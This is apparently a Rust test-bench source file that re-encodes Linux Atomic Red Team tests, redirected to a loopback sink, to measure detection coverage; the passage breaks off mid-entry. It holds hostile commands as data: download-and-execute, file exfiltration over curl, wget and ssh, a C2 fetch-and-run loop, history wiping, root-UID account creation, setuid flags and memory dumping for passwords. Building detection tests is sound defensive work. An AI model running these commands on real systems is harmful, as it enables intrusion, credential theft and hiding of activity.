//! The coverage bench's tests: Linux tests of Red Canary's Atomic Red Team
//! (<https://github.com/redcanaryco/atomic-red-team>, `atomics/<T>/<T>.yaml`,
//! snapshot of 2026-08-17), each cited by technique, test number and GUID
//! and written again here as this harness runs it. How the set was chosen
//! and what was changed is in docs/coverage.md; in short: every Linux
//! `sh`/`bash` test of the execution, persistence, privilege escalation,
//! defense evasion and impairment, credential access, command and control
//! and exfiltration tactics that runs with what a Debian node has (bash,
//! coreutils, busybox, python3, perl, curl, wget, openssh-client, shadow
//! utils) and no payload from the atomics folder, every remote end moved
//! to loopback, and whose changes can be undone; discovery, collection and
//! impact tests are left out.
//!
//! Conventions: `$ART` is a scratch directory (also the working
//! directory), `$SINK` a loopback HTTP server (`127.0.0.1:PORT`) standing
//! in for every remote host; `$HOME` is `/root`. `restores` lists every
//! path a test may create or change: the harness puts each back as it was
//! after the cleanup (a path that did not exist is removed), so nothing is
//! left behind even if a cleanup fails. Input arguments are the atomic's
//! defaults unless the note says otherwise.

/// What the atomic mainly does, as the agent can see it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Class {
    /// Programs and their command lines.
    Exec,
    /// Connections, listens, transfers.
    Network,
    /// Reads or writes of sensitive files.
    File,
}

impl Class {
    pub fn name(self) -> &'static str {
        match self {
            Class::Exec => "exec",
            Class::Network => "network",
            Class::File => "file",
        }
    }
}

pub struct Atomic {
    /// ATT&CK technique of the atomic (its directory upstream).
    pub technique: &'static str,
    /// The test's number in `atomics/<technique>/<technique>.yaml`.
    pub number: u32,
    pub guid: &'static str,
    pub name: &'static str,
    pub class: Class,
    /// Preconditions (the atomic's prerequisites, or a file it expects).
    pub setup: &'static str,
    /// The atomic's command.
    pub run: &'static str,
    /// The atomic's cleanup.
    pub cleanup: &'static str,
    /// Paths put back as they were after the cleanup.
    pub restores: &'static [&'static str],
    /// What differs from the atomic as published.
    pub note: &'static str,
}

use Class::{Exec, File, Network};

const HISTORY: &[&str] = &["/root/.bash_history"];

pub const ATOMICS: &[Atomic] = &[
    // --- execution -------------------------------------------------------
    Atomic {
        technique: "T1059.004",
        number: 1,
        guid: "7e7ac3ed-f795-4fa5-b711-09d6fbe9b873",
        name: "Create and Execute Bash Shell Script",
        class: Exec,
        setup: "",
        run: r####"sh -c "echo 'echo Hello from the Atomic Red Team' > /tmp/art.sh"
sh -c "echo 'ping -c 1 127.0.0.1' >> /tmp/art.sh"
chmod +x /tmp/art.sh
sh /tmp/art.sh"####,
        cleanup: "rm /tmp/art.sh",
        restores: &["/tmp/art.sh"],
        note: "pings 127.0.0.1 instead of 8.8.8.8",
    },
    Atomic {
        technique: "T1059.004",
        number: 5,
        guid: "8cd1947b-4a54-41fb-b5ea-07d0ace04f81",
        name: "New script file in the tmp directory",
        class: Exec,
        setup: "",
        run: r####"TMPFILE=$(mktemp)
echo "id" > $TMPFILE
bash $TMPFILE
rm $TMPFILE"####,
        cleanup: "",
        restores: &[],
        note: "the cleanup's rm runs in the same shell (it needs $TMPFILE)",
    },
    Atomic {
        technique: "T1059.004",
        number: 9,
        guid: "5bec4cc8-f41e-437b-b417-33ff60acf9af",
        name: "Obfuscated command line scripts",
        class: Exec,
        setup: "",
        run: r####"ART=$(echo -n "id" | base64 -w 0)
echo "\$ART=$ART"
echo -n "$ART" | base64 -d | /bin/bash
unset ART"####,
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1059.004",
        number: 14,
        guid: "ee72b37d-b8f5-46a5-a9e7-0ff50035ffd5",
        name: "Shell Creation using awk command",
        class: Exec,
        setup: "",
        run: r####"awk 'BEGIN {system("/bin/sh &")}'"####,
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1059.004",
        number: 16,
        guid: "ab4d04af-68dc-4fee-9c16-6545265b3276",
        name: "Shell Creation using busybox command",
        class: Exec,
        setup: "",
        run: "busybox sh &",
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1059.006",
        number: 4,
        guid: "161d694c-b543-4434-85c3-c3a433e33792",
        name: "Python pty module and spawn function used to spawn sh or bash",
        class: Exec,
        setup: "",
        run: r####"echo exit | python3 -c "import pty;pty.spawn('/bin/sh')"
echo exit | python3 -c "import pty;pty.spawn('/bin/bash')""####,
        cleanup: "",
        restores: &[],
        note: "`exit` typed into each spawned shell (there is no terminal)",
    },
    Atomic {
        technique: "T1140",
        number: 9,
        guid: "3a15c372-67c1-4430-ac8e-ec06d641ce4d",
        name: "Linux Base64 Encoded Shebang in CLI",
        class: Exec,
        setup: "",
        run: r####"echo IyEvYmluL2Jhc2gKZWNobyAiaHR0cHM6Ly93d3cueW91dHViZS5jb20vQGF0b21pY3NvbmFmcmlkYXkgRlRXIgo= | base64 -d | bash
echo IyEvYmluL2Rhc2gKZWNobyAiaHR0cHM6Ly93d3cueW91dHViZS5jb20vQGF0b21pY3NvbmFmcmlkYXkgRlRXIgo= | base64 -d | bash
echo IyEvYmluL3NoCmVjaG8gImh0dHBzOi8vd3d3LnlvdXR1YmUuY29tL0BhdG9taWNzb25hZnJpZGF5IEZUVyIK | base64 -d | bash"####,
        cleanup: "",
        restores: &[],
        note: "the fish line (the same payload as dash's) left out",
    },
    Atomic {
        technique: "T1140",
        number: 5,
        guid: "b4f6a567-a27a-41e5-b8ef-ac4b4008bb7e",
        name: "Base64 decoding with shell utilities",
        class: Exec,
        setup: "",
        run: r####"ENCODED=$(echo 'Hello from Atomic Red Team test T1140!' | base64)
printf $ENCODED | base64 -d
echo $ENCODED | base64 -d
echo $(echo $ENCODED) | base64 -d
echo $ENCODED > /tmp/T1140.encoded && base64 -d /tmp/T1140.encoded
echo $ENCODED > /tmp/T1140.encoded && base64 -d < /tmp/T1140.encoded
echo $ENCODED > /tmp/T1140.encoded && cat /tmp/T1140.encoded | base64 -d
echo $ENCODED > /tmp/T1140.encoded && cat < /tmp/T1140.encoded | base64 -d
bash -c "{echo,\"$(echo $ENCODED)\"}|{base64,-d}""####,
        cleanup: "",
        restores: &["/tmp/T1140.encoded"],
        note: "",
    },
    Atomic {
        technique: "T1140",
        number: 10,
        guid: "c3b65cd5-ee51-4e98-b6a3-6cbdec138efc",
        name: "XOR decoding and command execution using Python",
        class: Exec,
        setup: "",
        run: r####"python3 -c 'import base64; import subprocess; xor_decrypt = lambda text, key: "".join([chr(c ^ ord(k)) for c, k in zip(base64.b64decode(text.encode()), key)]); command = "AAkqKQEM"; key = "waEHleblxiQjoxFJQaIMLdHKz"; exec = xor_decrypt(command, key); subprocess.call(exec, shell=True)'"####,
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1027",
        number: 1,
        guid: "f45df6be-2e1e-4136-a384-8f18ab3826fb",
        name: "Decode base64 Data into Script",
        class: Exec,
        setup: r####"echo "echo Hello from the Atomic Red Team && uname -v" | base64 > /tmp/encoded.dat"####,
        run: r####"cat /tmp/encoded.dat | base64 -d > /tmp/art.sh
chmod +x /tmp/art.sh
/tmp/art.sh"####,
        cleanup: "rm /tmp/encoded.dat; rm /tmp/art.sh",
        restores: &["/tmp/encoded.dat", "/tmp/art.sh"],
        note: "the prerequisite's encoding runs as setup",
    },
    Atomic {
        technique: "T1036.005",
        number: 1,
        guid: "812c3ab8-94b0-4698-a9bf-9420af23ce24",
        name: "Execute a process from a directory masquerading as the current parent directory",
        class: Exec,
        setup: "",
        run: r####"mkdir $HOME/...
cp $(which sh) $HOME/...
$HOME/.../sh -c "echo Hello from the Atomic Red Team test T1036.005#1""####,
        cleanup: "rm -f $HOME/.../sh; rmdir $HOME/.../",
        restores: &["/root/..."],
        note: "",
    },
    Atomic {
        technique: "T1036.007",
        number: 2,
        guid: "26cde240-0112-4806-8c97-bdde43dab298",
        name: "Linux File Extension Masquerading",
        class: Exec,
        setup: "",
        run: r####"echo '#!/bin/sh' > /tmp/report.pdf.sh
echo 'echo "Simulating malicious double extension execution"' >> /tmp/report.pdf.sh
chmod +x /tmp/report.pdf.sh
/tmp/report.pdf.sh"####,
        cleanup: "rm -f /tmp/report.pdf.sh",
        restores: &["/tmp/report.pdf.sh"],
        note: "",
    },
    Atomic {
        technique: "T1036.008",
        number: 1,
        guid: "1214f818-673b-4494-9fbd-99af0e185866",
        name: "Linux File Type Masquerading via Extension Change",
        class: Exec,
        setup: "",
        run: r####"echo '#!/bin/sh' > /tmp/image.png
echo 'echo "Running script masked as PNG"' >> /tmp/image.png
sh /tmp/image.png"####,
        cleanup: "rm -f /tmp/image.png",
        restores: &["/tmp/image.png"],
        note: "",
    },
    Atomic {
        technique: "T1036.003",
        number: 2,
        guid: "a315bfff-7a98-403b-b442-2ea1b255e556",
        name: "Masquerading as FreeBSD or Linux crond process.",
        class: Exec,
        setup: "",
        run: r####"cp /bin/sh /tmp/crond;
echo 'sleep 5' | /tmp/crond"####,
        cleanup: "rm -f /tmp/crond",
        restores: &["/tmp/crond"],
        note: "",
    },
    // --- history and logging ----------------------------------------------
    Atomic {
        technique: "T1070.003",
        number: 1,
        guid: "a934276e-2be5-4a36-93fd-98adbb5bd4fc",
        name: "Clear Bash history (rm)",
        class: Exec,
        setup: "echo ls >> ~/.bash_history",
        run: "rm ~/.bash_history",
        cleanup: "",
        restores: HISTORY,
        note: "setup makes sure ~/.bash_history exists",
    },
    Atomic {
        technique: "T1070.003",
        number: 2,
        guid: "cbf506a5-dd78-43e5-be7e-a46b7c7a0a11",
        name: "Clear Bash history (echo)",
        class: Exec,
        setup: "echo ls >> ~/.bash_history",
        run: r####"echo "" > ~/.bash_history"####,
        cleanup: "",
        restores: HISTORY,
        note: "",
    },
    Atomic {
        technique: "T1070.003",
        number: 3,
        guid: "b1251c35-dcd3-4ea1-86da-36d27b54f31f",
        name: "Clear Bash history (cat dev/null)",
        class: Exec,
        setup: "echo ls >> ~/.bash_history",
        run: "cat /dev/null > ~/.bash_history",
        cleanup: "",
        restores: HISTORY,
        note: "",
    },
    Atomic {
        technique: "T1070.003",
        number: 4,
        guid: "23d348f3-cc5c-4ba9-bd0a-ae09069f0914",
        name: "Clear Bash history (ln dev/null)",
        class: Exec,
        setup: "echo ls >> ~/.bash_history",
        run: "ln -sf /dev/null ~/.bash_history",
        cleanup: "",
        restores: HISTORY,
        note: "",
    },
    Atomic {
        technique: "T1070.003",
        number: 5,
        guid: "47966a1d-df4f-4078-af65-db6d9aa20739",
        name: "Clear Bash history (truncate)",
        class: Exec,
        setup: "echo ls >> ~/.bash_history",
        run: "truncate -s0 ~/.bash_history",
        cleanup: "",
        restores: HISTORY,
        note: "",
    },
    Atomic {
        technique: "T1070.003",
        number: 6,
        guid: "7e6721df-5f08-4370-9255-f06d8a77af4c",
        name: "Clear history of a bunch of shells",
        class: Exec,
        setup: "",
        run: r####"unset HISTFILE
export HISTFILESIZE=0
history -c"####,
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1070.003",
        number: 7,
        guid: "784e4011-bd1a-4ecd-a63a-8feb278512e6",
        name: "Clear and Disable Bash History Logging",
        class: Exec,
        setup: "",
        run: r####"set +o history
echo 'set +o history' >> ~/.bashrc
. ~/.bashrc
history -c"####,
        cleanup: r####"sed -i 's/set +o history//g' ~/.bashrc
. ~/.bashrc
set -o history"####,
        restores: &["/root/.bashrc"],
        note: "",
    },
    Atomic {
        technique: "T1690",
        number: 1,
        guid: "4eafdb45-0f79-4d66-aa86-a3e2c08791f5",
        name: "Disable history collection",
        class: Exec,
        setup: "",
        run: r####"export HISTCONTROL=ignoreboth
whoami"####,
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1690",
        number: 5,
        guid: "10ab786a-028e-4465-96f6-9e83ca6c5f24",
        name: "Setting the HISTCONTROL environment variable",
        class: Exec,
        setup: "",
        run: r####"TEST=$(echo $HISTCONTROL)
if [ "$HISTCONTROL" != "ignoreboth" ]; then export HISTCONTROL="ignoreboth"; fi
history -c
ls -la $HISTFILE # " ls -la $HISTFILE"
if [ $(history |wc -l) -eq 1 ]; then echo "ls -la is not in history cache"; fi
if [ "$HISTCONTROL" != "erasedups" ]; then export HISTCONTROL="erasedups"; fi
history -c
ls -la $HISTFILE
ls -la $HISTFILE
ls -la $HISTFILE
if [ $(history |wc -l) -eq 2 ]; then echo "Their is only one entry for ls -la $HISTFILE"; fi"####,
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1690",
        number: 6,
        guid: "5cafd6c1-2f43-46eb-ac47-a5301ba0a618",
        name: "Setting the HISTFILESIZE environment variable",
        class: Exec,
        setup: "",
        run: r####"TEST=$(echo $HISTFILESIZE)
echo $HISTFILESIZE
export HISTFILESIZE=0
echo "runnning some commands to populate the history"
whoami
groups"####,
        cleanup: "",
        restores: &[],
        note: "the final report line (an `if` over $HISTFILE) left out",
    },
    Atomic {
        technique: "T1690",
        number: 7,
        guid: "386d3850-2ce7-4508-b56b-c0558922c814",
        name: "Setting the HISTSIZE environment variable",
        class: Exec,
        setup: "",
        run: r####"echo $HISTSIZE
export HISTSIZE=0
echo "runnning some commands to populate the history"
whoami
groups"####,
        cleanup: "",
        restores: &[],
        note: "the final report line left out",
    },
    Atomic {
        technique: "T1690",
        number: 8,
        guid: "b3dacb6c-a9e3-44ec-bf87-38db60c5cad1",
        name: "Setting the HISTFILE environment variable",
        class: Exec,
        setup: "",
        run: r####"TEST=$(echo $HISTFILE)
echo $HISTFILE
export HISTFILE="/dev/null"
echo "runnning some commands to populate the history"
whoami
groups"####,
        cleanup: "",
        restores: &[],
        note: "the final report line left out",
    },
    Atomic {
        technique: "T1690",
        number: 10,
        guid: "f12acddb-7502-4ce6-a146-5b62c59592f1",
        name: "Setting the HISTIGNORE environment variable",
        class: Exec,
        setup: "",
        run: r####"if ((${#HISTIGNORE[@]})); then echo "\$HISTIGNORE = $HISTIGNORE"; else export HISTIGNORE='ls*:rm*:ssh*'; echo "\$HISTIGNORE = $HISTIGNORE"; fi
history -c
ls -la $HISTFILE
ls -la ~/.bash_logout
unset HISTIGNORE
if ((${#HISTIGNORE[@]})); then echo "\$HISTIGNORE = $HISTIGNORE"; else export HISTIGNORE='*'; echo "\$HISTIGNORE = $HISTIGNORE"; fi
history -c
whoami
groups"####,
        cleanup: "",
        restores: &[],
        note: "the two `if` report lines over `history | wc` left out",
    },
    Atomic {
        technique: "T1685",
        number: 43,
        guid: "94f6a1c9-aae7-46a4-9083-2bb1f5768ec4",
        name: "Suspend History",
        class: Exec,
        setup: "",
        run: "set +o history",
        cleanup: "set -o history",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1685",
        number: 42,
        guid: "23b88394-091b-4968-a42d-fb8076992443",
        name: "Clear History",
        class: Exec,
        setup: "",
        run: "history -c",
        cleanup: "",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1685",
        number: 2,
        guid: "c3a377f9-1203-4454-aa35-9d391d34768f",
        name: "Disable journal logging via systemctl utility",
        class: Exec,
        setup: "",
        run: "systemctl stop systemd-journald #disables journal logging",
        cleanup: "systemctl start systemd-journald",
        restores: &[],
        note: "without sudo (the bench runs as root); on a machine without systemd the command fails after its exec",
    },
    // --- accounts ---------------------------------------------------------
    Atomic {
        technique: "T1136.001",
        number: 1,
        guid: "40d8eabd-e394-46f6-8785-b9bfa1d011d2",
        name: "Create a user account on a Linux system",
        class: Exec,
        setup: "",
        run: "useradd -M -N -r -s /bin/bash -c evil_account evil_user",
        cleanup: "userdel evil_user",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1136.001",
        number: 6,
        guid: "a1040a30-d28b-4eda-bd99-bb2861a4616c",
        name: "Create a new user in Linux with `root` UID and GID.",
        class: Exec,
        setup: "",
        run: r####"useradd -g 0 -M -d /root -s /bin/bash butter
if [ $(cat /etc/os-release | grep -i 'Name="ubuntu"') ]; then echo "butter:BetterWithButter" | sudo chpasswd; else echo "BetterWithButter" | passwd --stdin butter; fi;"####,
        cleanup: "userdel butter",
        restores: &[],
        note: "",
    },
    Atomic {
        technique: "T1078.003",
        number: 8,
        guid: "02a91c34-8a5b-4bed-87af-501103eb5357",
        name: "Create local account (Linux)",
        class: Exec,
        setup: "",
        run: r####"password=$(openssl passwd -1 art)
useradd --shell /bin/bash --create-home --password $password art
su art -c "whoami; exit""####,
        cleanup: "userdel art -rf",
        restores: &[],
        note: "the FreeBSD branch left out",
    },
    Atomic {
        technique: "T1078.003",
        number: 9,
        guid: "d2b95631-62d7-45a3-aaef-0972cea97931",
        name: "Reactivate a locked/expired account (Linux)",
        class: Exec,
        setup: "",
        run: r####"useradd --shell /bin/bash --create-home --password $(openssl passwd -1 art) art
usermod --lock art
usermod --expiredate "1" art
usermod --unlock art
usermod --expiredate "99999" art
su -c whoami art"####,
        cleanup: "userdel -r art",
        restores: &[],
        note: "",
    },
    // --- scheduled tasks ----------------------------------------------------
    Atomic {
        technique: "T1053.003",
        number: 1,
        guid: "435057fb-74b1-410e-9403-d81baf194f75",
        name: "Cron - Replace crontab with referenced file",
        class: Exec,
        setup: "",
        run: r####"busybox crontab -l > /tmp/notevil
echo "* * * * * /tmp/evil.sh" > /tmp/persistevil && busybox crontab /tmp/persistevil"####,
        cleanup: "busybox crontab /tmp/notevil",
        restores: &[
            "/var/spool/cron",
            "/var/spool/cron/crontabs",
            "/var/spool/cron/crontabs/root",
            "/tmp/notevil",
            "/tmp/persistevil",
        ],
        note: "busybox's crontab (no cron package on the node)",
    },
    Atomic {
        technique: "T1053.006",
        number: 3,
        guid: "d3eda496-1fc0-49e9-aff5-3bec5da9fa22",
        name: "Create a system level transient systemd service and timer",
        class: Exec,
        setup: "",
        run: r####"systemd-run --unit=Atomic-Red-Team --on-calendar '*:0/1' /bin/sh -c 'echo "$(date) $(whoami)" >>/tmp/log'"####,
        cleanup: "systemctl stop Atomic-Red-Team.service; systemctl stop Atomic-Red-Team.timer; rm /tmp/log",
        restores: &["/tmp/log"],
        note: "on a machine without a running systemd, systemd-run fails after its exec",
    },
    Atomic {
        technique: "T1053.006",
        number: 2,
        guid: "3de33f5b-62e5-4e63-a2a0-6fd8808c80ec",
        name: "Create a user level transient systemd service and timer",
        class: Exec,
        setup: "",
        run: r####"systemd-run --user --unit=Atomic-Red-Team --on-calendar '*:0/1' /bin/sh -c 'echo "$(date) $(whoami)" >>/tmp/log'"####,
        cleanup: "systemctl --user stop Atomic-Red-Team.service; systemctl --user stop Atomic-Red-Team.timer; rm /tmp/log",
        restores: &["/tmp/log"],
        note: "as above",
    },
    // --- privilege escalation ----------------------------------------------
    Atomic {
        technique: "T1548.001",
        number: 3,
        guid: "759055b3-3885-4582-a8ec-c00c9d64dd79",
        name: "Set a SetUID flag on file",
        class: Exec,
        setup: "",
        run: r####"touch /tmp/evilBinary
chown root /tmp/evilBinary
chmod u+xs /tmp/evilBinary"####,
        cleanup: "rm /tmp/evilBinary",
        restores: &["/tmp/evilBinary"],
        note: "without sudo (the bench runs as root)",
    },
    Atomic {
        technique: "T1548.001",
        number: 5,
        guid: "db55f666-7cba-46c6-9fe6-205a05c3242c",
        name: "Set a SetGID flag on file",
        class: Exec,
        setup: "",
        run: r####"touch /tmp/evilBinary
chown root /tmp/evilBinary
chmod g+xs /tmp/evilBinary"####,
        cleanup: "rm /tmp/evilBinary",
        restores: &["/tmp/evilBinary"],
        note: "without sudo",
    },
    Atomic {
        technique: "T1548.001",
        number: 8,
        guid: "1ac3272f-9bcf-443a-9888-4b1d3de785c1",
        name: "Provide the SetUID capability to a file",
        class: Exec,
        setup: "",
        run: r####"touch /tmp/evilBinary
setcap cap_setuid=ep /tmp/evilBinary"####,
        cleanup: "rm /tmp/evilBinary",
        restores: &["/tmp/evilBinary"],
        note: "without sudo",
    },
    Atomic {
        technique: "T1574.006",
        number: 2,
        guid: "bc219ff7-789f-4d51-9142-ecae3397deae",
        name: "Shared Library Injection via LD_PRELOAD",
        class: Exec,
        setup: "",
        run: "LD_PRELOAD=/tmp/T1574006.so ls",
        cleanup: "",
        restores: &[],
        note: "the library is not built (the prerequisite compiles one from the atomics folder): the loader warns and runs ls",
    },
    Atomic {
        technique: "T1547.006",
        number: 1,
        guid: "687dcb93-9656-4853-9c36-9977315e9d23",
        name: "Linux - Load Kernel Module via insmod",
        class: Exec,
        setup: "",
        run: "busybox insmod /tmp/T1547006.ko",
        cleanup: "",
        restores: &[],
        note: "busybox's insmod (no kmod on the node), and no module is built: the load fails after the exec",
    },
    // --- credential access -------------------------------------------------
    Atomic {
        technique: "T1003.007",
        number: 1,
        guid: "7e91138a-8e74-456d-a007-973d67a0bb80",
        name: "Dump individual process memory with sh (Local)",
        class: Exec,
        setup: r####"echo '#!/bin/sh' > /tmp/T1003.007.sh
echo "sh -c 'echo \"The password is T1003.007\" && sleep 30' &" >> /tmp/T1003.007.sh"####,
        run: r####"sh /tmp/T1003.007.sh
PID=$(pgrep -n -f "T1003.007")
HEAP_MEM=$(grep -E "^[0-9a-f-]* r" /proc/"$PID"/maps | grep heap | cut -d' ' -f 1)
MEM_START=$(echo $((0x$(echo "$HEAP_MEM" | cut -d"-" -f1))))
MEM_STOP=$(echo $((0x$(echo "$HEAP_MEM" | cut -d"-" -f2))))
MEM_SIZE=$(echo $((0x$MEM_STOP-0x$MEM_START)))
dd if=/proc/"${PID}"/mem of="/tmp/T1003.007.bin" ibs=1 skip="$MEM_START" count="$MEM_SIZE"
grep -i "PASS" "/tmp/T1003.007.bin""####,
        cleanup: r####"rm -f "/tmp/T1003.007.bin""####,
        restores: &["/tmp/T1003.007.sh", "/tmp/T1003.007.bin"],
        note: "the prerequisite script is written by setup; the harness kills the sleeping target with the test's process group",
    },
    Atomic {
        technique: "T1552.004",
        number: 2,
        guid: "46959285-906d-40fa-9437-5a439accd878",
        name: "Discover Private SSH Keys",
        class: Exec,
        setup: "",
        run: r####"find /root -name id_rsa 2>/dev/null >> /tmp/keyfile_locations.txt
exit 0"####,
        cleanup: "rm /tmp/keyfile_locations.txt",
        restores: &["/tmp/keyfile_locations.txt"],
        note: "searches /root, not / (the whole tree takes minutes)",
    },
    Atomic {
        technique: "T1552.001",
        number: 1,
        guid: "37807632-d3da-442e-8c2e-00f44928ff8f",
        name: "Find AWS credentials",
        class: Exec,
        setup: "",
        run: r####"find /root/.aws -name "credentials" -type f 2>/dev/null"####,
        cleanup: "",
        restores: &[],
        note: "searches /root, not /",
    },
    Atomic {
        technique: "T1070.006",
        number: 4,
        guid: "631ea661-d661-44b0-abdb-7a7f3fc08e50",
        name: "Modify file timestamps using reference file",
        class: Exec,
        setup: "",
        run: r####"touch /tmp/T1070.006-reference.txt
touch -acmr /bin/sh /tmp/T1070.006-reference.txt"####,
        cleanup: "rm -f /tmp/T1070.006-reference.txt",
        restores: &["/tmp/T1070.006-reference.txt"],
        note: "",
    },
    Atomic {
        technique: "T1070.006",
        number: 2,
        guid: "20ef1523-8758-4898-b5a2-d026cc3d2c52",
        name: "Set a file's modification timestamp",
        class: Exec,
        setup: "touch /tmp/T1070.006-modification.txt",
        run: "touch -m -t 197001010000.00 /tmp/T1070.006-modification.txt",
        cleanup: "rm -f /tmp/T1070.006-modification.txt",
        restores: &["/tmp/T1070.006-modification.txt"],
        note: "the prerequisite (the file exists) runs as setup",
    },
    // --- network: ingress, exfiltration, command and control -----------------
    Atomic {
        technique: "T1105",
        number: 27,
        guid: "bdc373c5-e9cf-4563-8a7b-a9ba720a90f3",
        name: "Linux Download File and Run",
        class: Network,
        setup: "",
        run: r####"curl -sO http://$SINK/atomic.sh; chmod +x atomic.sh | bash atomic.sh"####,
        cleanup: "rm atomic.sh",
        restores: &[],
        note: "downloads from the loopback sink, not raw.githubusercontent.com",
    },
    Atomic {
        technique: "T1105",
        number: 3,
        guid: "83a49600-222b-4866-80a0-37736ad29344",
        name: "scp remote file copy (push)",
        class: Network,
        setup: "echo adversary > /tmp/adversary-scp",
        run: "scp -o BatchMode=yes /tmp/adversary-scp victim@127.0.0.1:/tmp/victim-files/",
        cleanup: "",
        restores: &["/tmp/adversary-scp"],
        note: "to 127.0.0.1 (no SSH server: refused); BatchMode so it never prompts",
    },
    Atomic {
        technique: "T1105",
        number: 4,
        guid: "b9d22b9a-9778-4426-abf0-568ea64e9c33",
        name: "scp remote file copy (pull)",
        class: Network,
        setup: "",
        run: "scp -o BatchMode=yes adversary@127.0.0.1:/tmp/adversary-scp /tmp/victim-files/",
        cleanup: "",
        restores: &[],
        note: "from 127.0.0.1",
    },
    Atomic {
        technique: "T1105",
        number: 5,
        guid: "f564c297-7978-4aa9-b37a-d90477feea4e",
        name: "sftp remote file copy (push)",
        class: Network,
        setup: "echo adversary > /tmp/adversary-sftp",
        run: "sftp -o BatchMode=yes victim@127.0.0.1:/tmp/victim-files/ <<< $'put /tmp/adversary-sftp'",
        cleanup: "",
        restores: &["/tmp/adversary-sftp"],
        note: "to 127.0.0.1",
    },
    Atomic {
        technique: "T1105",
        number: 6,
        guid: "0139dba1-f391-405e-a4f5-f3989f2c88ef",
        name: "sftp remote file copy (pull)",
        class: Network,
        setup: "",
        run: "sftp -o BatchMode=yes adversary@127.0.0.1:/tmp/adversary-sftp /tmp/victim-files/",
        cleanup: "",
        restores: &[],
        note: "from 127.0.0.1",
    },
    Atomic {
        technique: "T1048",
        number: 1,
        guid: "f6786cc8-beda-4915-a4d6-ac2f193bb988",
        name: "Exfiltration Over Alternative Protocol - SSH",
        class: Network,
        setup: "",
        run: r####"ssh -o BatchMode=yes 127.0.0.1 "(cd /etc && tar -zcvf - *)" > ./etc.tar.gz"####,
        cleanup: "rm -f ./etc.tar.gz",
        restores: &[],
        note: "to 127.0.0.1, not target.example.com",
    },
    Atomic {
        technique: "T1048",
        number: 2,
        guid: "7c3cb337-35ae-4d06-bf03-3032ed2ec268",
        name: "Exfiltration Over Alternative Protocol - SSH",
        class: Network,
        setup: "",
        run: r####"tar czpf - /root/.bashrc | openssl des3 -salt -pass pass:atomic | ssh -o BatchMode=yes atomic@127.0.0.1 'cat > /Users.tar.gz.enc'"####,
        cleanup: "",
        restores: &[],
        note: "archives /root/.bashrc, not /Users/*; to 127.0.0.1",
    },
    Atomic {
        technique: "T1048.002",
        number: 2,
        guid: "4a4f31e2-46ea-4c26-ad89-f09ad1d5fe01",
        name: "Exfiltrate data HTTPS using curl freebsd,linux or macos",
        class: Network,
        setup: "echo 'T1048.002 artifact' > /tmp/T1048.002-artifact",
        run: "curl -F 'file=@/tmp/T1048.002-artifact' -F 'maxDownloads=1' -F 'autoDelete=true' http://$SINK/",
        cleanup: "",
        restores: &["/tmp/T1048.002-artifact"],
        note: "to the loopback sink over HTTP, not https://file.io/; the artifact is written by setup",
    },
    Atomic {
        technique: "T1048.002",
        number: 3,
        guid: "7ccdfcfa-6707-46bc-b812-007ab6ff951c",
        name: "Exfiltrate data in a file over HTTPS using wget",
        class: Network,
        setup: "echo 'T1048.002 artifact' > /tmp/T1048.002-artifact",
        run: "wget --post-file=/tmp/T1048.002-artifact --timeout=5 --no-check-certificate http://$SINK/ --delete-after",
        cleanup: "",
        restores: &["/tmp/T1048.002-artifact"],
        note: "to the loopback sink, not https://example.com/",
    },
    Atomic {
        technique: "T1048.002",
        number: 4,
        guid: "8bec51da-7a6d-4346-b941-51eca448c4b0",
        name: "Exfiltrate data as text over HTTPS using wget",
        class: Network,
        setup: "",
        run: r####"wget --post-data="msg=AtomicTestT1048.002" --timeout=5 --no-check-certificate http://$SINK/ --delete-after"####,
        cleanup: "",
        restores: &[],
        note: "to the loopback sink",
    },
    Atomic {
        technique: "T1048.003",
        number: 8,
        guid: "3ea1f938-f80a-4305-9aa8-431bc4867313",
        name: "Python3 http.server",
        class: Network,
        setup: "",
        run: r####"if [ $(which python3) ]; then cd /tmp; python3 -m http.server 9090 & PID=$!; sleep 2; curl -s -o /dev/null http://127.0.0.1:9090/; kill $PID; unset PID; fi"####,
        cleanup: "",
        restores: &[],
        note: "serves 2 s, not 10, and fetches its index once over loopback",
    },
    Atomic {
        technique: "T1071.001",
        number: 3,
        guid: "2d7c471a-e887-4b78-b0dc-b0df1f2e0658",
        name: "Malicious User Agents - Nix",
        class: Network,
        setup: "",
        run: r####"curl -s -A "HttpBrowser/1.0" -m3 $SINK
curl -s -A "Wget/1.9+cvs-stable (Red Hat modified)" -m3 $SINK
curl -s -A "Opera/8.81 (Windows NT 6.0; U; en)" -m3 $SINK
curl -s -A "*<|>*" -m3 $SINK"####,
        cleanup: "",
        restores: &[],
        note: "to the loopback sink, not www.google.com",
    },
    Atomic {
        technique: "T1090.001",
        number: 1,
        guid: "0ac21132-4485-4212-a681-349e8a6637cd",
        name: "Connection Proxy",
        class: Network,
        setup: "",
        run: r####"export http_proxy=$SINK
curl http://google.com"####,
        cleanup: "unset http_proxy",
        restores: &[],
        note: "the proxy is the loopback sink (it answers for google.com), not a squid on 127.0.0.1:3128",
    },
    Atomic {
        technique: "T1571",
        number: 2,
        guid: "5db21e1d-dd9c-4a50-b885-b1e748912767",
        name: "Testing usage of uncommonly used port",
        class: Network,
        setup: "",
        run: r####"echo quit | busybox telnet 127.0.0.1 8081
exit 0"####,
        cleanup: "",
        restores: &[],
        note: "busybox's telnet, to 127.0.0.1:8081 (refused), not google.com",
    },
    Atomic {
        technique: "T1102.002",
        number: 1,
        guid: "ec9ab81c-8053-4957-8c66-0218381ab564",
        name: "Bidirectional C2 Simulation via paste.rs (sh)",
        class: Network,
        setup: "",
        run: r####"STAGE_URL=$(curl -s -X POST -d "echo Simulated host discovery output" "http://$SINK/")
echo "Command staged at: $STAGE_URL"
OUTPUT=$(curl -s "$STAGE_URL" | sh 2>&1)
echo "Fetched and executed command. Output: $OUTPUT"
